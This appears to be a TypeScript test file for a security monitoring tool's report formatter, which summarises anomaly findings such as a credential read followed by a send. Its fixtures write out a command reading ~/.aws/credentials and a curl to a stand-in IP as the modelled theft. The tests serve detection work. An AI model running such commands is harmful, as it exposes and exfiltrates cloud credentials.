import { describe, expect, it } from 'vitest';
import type { Deviation } from '../../src/model/deviation.ts';
import { tell } from '../../src/report/telling.ts';
import { aFinding, anAction, at } from './session.ts';

const read = anAction(0, 'cat ~/.aws/credentials');
const send = anAction(3, 'curl http://203.0.113.66/');
const deviation: Deviation = {
  score: 8.44,
  threshold: 4,
  pValue: 0.2,
  readiness: 'learning',
  sessions: 4,
  unusual: [
    { what: 'reads secret:aws', order: false, score: 4, seen: 0 },
    { what: 'does file-read:cat reads secret:aws', order: false, score: 3, seen: 0 },
    { what: 'runs cat', order: false, score: 1, seen: 1 },
  ],
  expected: [{ symbol: 'shell:npm test', times: 3, of: 4 }],
};

describe('a finding beside its action', () => {
  it('does not repeat the commands of a sequence, and tells when it began', () => {
    const summary = `A credential was read, then sent: ${read.title} → ${send.title}`;
    expect(tell(aFinding({ summary, actions: [0, 3] }), [read, send])).toEqual({
      text: 'A credential was read, then sent',
      since: [at(0)],
    });
  });

  it('does not repeat the command of another tool’s alert', () => {
    const finding = aFinding({ detector: 'falco', summary: `Falco: Read secrets, during ${read.title}` });
    expect(tell(finding, [read]).text).toBe('Falco: Read secrets');
  });

  it('says of a deviation what is new, once, and what is usual', () => {
    expect(tell(aFinding({ detector: 'baseline', deviation, summary: 'x' }), [read])).toEqual({
      text: 'reads secret:aws, runs cat (rare: in 1 of 4 sessions); new after 4 sessions',
      usual: 'shell:npm test (3 of 4 times); score 8.4, alert from 4.0',
      since: [],
    });
  });

  it('keeps a summary that names none of the actions', () => {
    expect(tell(aFinding({ summary: 'Something: else' }), [read]).text).toBe('Something: else');
    expect(tell(aFinding({ summary: 'Something: else' }), []).text).toBe('Something: else');
  });

  it.each([
    ['nothing was learned', { ...deviation, sessions: 0, expected: [] }, /^nothing learned in this scope yet;/],
    ['nobody came this way', { ...deviation, expected: [] }, /^no clean session came this way;/],
  ])('says that %s', (_, other, usual) => {
    expect(tell(aFinding({ deviation: other }), [read]).usual).toMatch(usual);
  });
});
